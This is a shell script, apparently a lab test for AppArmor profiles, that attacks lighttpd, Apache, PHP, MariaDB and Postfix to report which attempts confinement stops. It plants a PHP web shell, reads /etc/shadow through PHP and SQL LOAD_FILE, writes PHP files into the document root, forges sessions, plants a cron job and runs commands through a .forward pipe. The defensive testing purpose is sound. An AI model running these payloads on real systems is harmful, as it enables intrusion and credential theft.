#!/bin/sh
# Does on a lab host what the profiles are there to stop.
#
#   attack.sh [lighttpd] [apache] [php-fpm] [php-cli] [mysql] [postfix]        (default: all)
#
# Runs as root on a lab host, like exercise.sh. Everything that it tries works on a host without AppArmor: where file
# permissions alone would stop it, it first gives them away (/etc/shadow becomes readable by everybody) and takes them
# back at the end. Prints "stopped NAME" or "ALLOWED NAME"; exit 1 when anything was allowed, 2 when it cannot try.
# shellcheck disable=SC2317 # functions are called by name, through attempt
set -u
PATH=$PATH:/usr/sbin:/sbin
docroot=/var/www/html
site=$docroot/aa-attack
open=$site/open
home=/home/aa-attack
datadir=/var/lib/mysql
sessions=/var/lib/php/sessions
allowed=0

attempt() { # NAME COMMAND...: the command succeeds when the attack does
  name=$1
  shift
  if "$@" > /dev/null 2>&1; then
    echo "ALLOWED $name"
    allowed=1
  else
    echo "stopped $name"
  fi
}

prints() { # TEXT COMMAND...
  text=$1
  shift
  "$@" 2>&1 | grep -q -- "$text"
}

prepare() {
  mkdir -p "$open" "$home" && chmod 755 "$home" && chmod 1777 "$open" || return
  echo secret-of-a-home > "$home/secret"
  echo secret-of-the-database > "$datadir/aa-attack" && chmod 644 "$datadir/aa-attack"
  chmod o+r /etc/shadow
  ln -sf "$home/secret" "$site/home.txt"
  ln -sf "$datadir/aa-attack" "$site/database.txt"
  ln -sf /etc/shadow "$site/shadow.txt"
  cat > "$site/page.php" << PHP
<?php
function start(\$program) {
  \$process = proc_open([\$program], [1 => ['pipe', 'w']], \$pipes);
  return \$process ? stream_get_contents(\$pipes[1]) : '';
}
switch (\$_GET['do']) {
case 'hello': echo 'hello'; break;
case 'read': readfile(\$_GET['file']); break;
case 'list': echo implode(' ', scandir(\$_GET['file'])); break;
case 'write': echo file_put_contents(\$_GET['file'], '<?php echo 1;') ? 'written' : ''; break;
case 'shell': echo shell_exec(\$_GET['command']); break;
case 'start': echo start(\$_GET['command']); break;
case 'drop':
  file_put_contents('/tmp/aa-attack.bin', "#!/bin/sh\necho uid=\n"); chmod('/tmp/aa-attack.bin', 0755);
  echo start('/tmp/aa-attack.bin'); break;
}
PHP
  mariadb -e "CREATE DATABASE IF NOT EXISTS aa_attack; CREATE TABLE IF NOT EXISTS aa_attack.t (line TEXT);
    CREATE USER IF NOT EXISTS aa_attack@localhost IDENTIFIED BY 'aa';
    GRANT FILE ON *.* TO aa_attack@localhost; GRANT ALL ON aa_attack.* TO aa_attack@localhost"
}

clean_up() {
  chmod o-r /etc/shadow
  rm -rf "$site" "$home" "$datadir/aa-attack" /tmp/aa-attack.* /dev/shm/aa-attack* "$sessions/sess_aaattack"
  mariadb -e 'DROP DATABASE IF EXISTS aa_attack; DROP USER IF EXISTS aa_attack@localhost' 2> /dev/null
}

get() { curl -sS --max-time 60 -G "$@"; }

attack_web_server() { # NAME URL
  attempt "$1 follows a link to a home" prints secret-of-a-home get "$2/home.txt"
  attempt "$1 follows a link to the database" prints secret-of-the-database get "$2/database.txt"
  attempt "$1 follows a link to the passwords" prints root: get "$2/shadow.txt"
}

page() { # DO [NAME=VALUE]
  get --data-urlencode "do=$1" --data-urlencode "${2:-x=}" http://localhost/aa-attack/page.php
}

attack_php_fpm() {
  for file in /etc/shadow /etc/lighttpd/lighttpd.conf /etc/mysql/mariadb.cnf /etc/ssh/sshd_config; do
    attempt "php-fpm reads $file" prints . page read "file=$file"
  done
  attempt 'php-fpm reads a home' prints secret-of-a-home page read "file=$home/secret"
  attempt 'php-fpm reads the database' prints secret-of-the-database page read "file=$datadir/aa-attack"
  attempt 'php-fpm lists a home' prints secret page list "file=$home"
  attempt 'php-fpm lists the programs' prints bash page list file=/usr/bin
  attempt 'php-fpm looks at another process' prints systemd page read file=/proc/1/comm
  attempt 'php-fpm writes into the document root' prints written page write "file=$open/shell.php"
  attempt 'php-fpm writes into shared memory' prints written page write file=/dev/shm/aa-attack
  attempt 'php-fpm runs a command' prints uid= page shell command=id
  attempt 'php-fpm runs a program' prints uid= page start command=/usr/bin/id
  attempt 'php-fpm runs a program that it dropped' prints uid= page drop
  attempt 'php-fpm reads a home with a shell' prints secret-of-a-home page shell "command=read x < $home/secret; echo \$x"
  attempt 'php-fpm writes with a shell' prints uid= page shell "command=echo uid= > $open/x && read x < $open/x; echo \$x"
}

attack_php_cli() {
  attempt 'php-cli reads the passwords' prints root: php -r 'readfile("/etc/shadow");'
  attempt 'php-cli reads a home' prints secret-of-a-home php -r "readfile('$home/secret');"
  attempt 'php-cli writes into the document root' prints written \
    php -r "echo file_put_contents('$open/cli.php', '1') ? 'written' : '';"
  attempt 'php-cli plants a cron job' prints written \
    php -r "echo file_put_contents('/etc/cron.d/aa-attack', '#') ? 'written' : '';"
  rm -f /etc/cron.d/aa-attack
  attempt 'php-cli runs a command' prints uid= php -r 'echo shell_exec("id");'
}

sql() { mariadb --user=aa_attack --password=aa --batch --skip-column-names aa_attack -e "$1"; }
sql_reads() { prints "$2" sql "SELECT LOAD_FILE('$1')"; }
sql_writes() { sql "SELECT 'x' INTO OUTFILE '$1'" && test -e "$1"; }
sql_loads() { sql "LOAD DATA INFILE '$1' IGNORE INTO TABLE t" && prints "$2" sql 'SELECT * FROM t'; }

attack_mysql() {
  attempt 'mysql reads the passwords' sql_reads /etc/shadow root:
  attempt 'mysql reads a PHP page' sql_reads "$site/page.php" php
  attempt 'mysql loads the configuration of a web server' sql_loads /etc/lighttpd/lighttpd.conf server.port
  attempt 'mysql writes into the document root' sql_writes "$open/sql.php"
  attempt 'mysql forges a PHP session' sql_writes "$sessions/sess_aaattack"
  attempt 'mysql writes into shared memory' sql_writes /dev/shm/aa-attack-sql
}

# A local user's ~/.forward, which Postfix follows with that user's rights.
forward() { # TARGET FILE: mail to the user does what the target says, and leaves the file
  rm -f "$2"
  getent passwd aa-attack > /dev/null || useradd --no-create-home --home-dir "$home" --shell /bin/sh aa-attack
  chown -R aa-attack "$home"
  echo "$1" > "$home/.forward"
  printf 'Subject: x\n\ntext\n' | sendmail -f postmaster aa-attack
  tries=0
  until [ -e "$2" ] || [ "$tries" -ge 30 ]; do tries=$((tries + 1)); sleep 0.5; done
  rm -f "$home/.forward"
  postsuper -d ALL deferred > /dev/null 2>&1
  [ -e "$2" ]
}

attack_postfix() {
  attempt 'postfix runs a program for a user' forward '"|/usr/bin/touch /tmp/aa-attack.ran"' /tmp/aa-attack.ran
  attempt 'postfix runs a command for a user' forward '"|id > /tmp/aa-attack.shell; echo >> /tmp/aa-attack.shell"' \
    /tmp/aa-attack.shell
  attempt 'postfix delivers into the document root' forward "$open/mail.php" "$open/mail.php"
  userdel aa-attack > /dev/null 2>&1
}

[ $# -gt 0 ] || set -- lighttpd apache php-fpm php-cli mysql postfix
trap clean_up EXIT
trap 'exit 2' HUP INT TERM
if ! output=$(prepare 2>&1) || ! output=$(page hello 2>&1) || [ "$output" != hello ]; then
  echo "cannot try: $output"
  exit 2
fi
for service; do
  case $service in
    lighttpd) attack_web_server lighttpd http://localhost:80/aa-attack ;;
    apache) attack_web_server apache http://localhost:8080/aa-attack ;;
    php-fpm) attack_php_fpm ;;
    php-cli) attack_php_cli ;;
    mysql) attack_mysql ;;
    postfix) attack_postfix ;;
    *) echo "cannot try: no service $service" && exit 2 ;;
  esac
done
exit $allowed
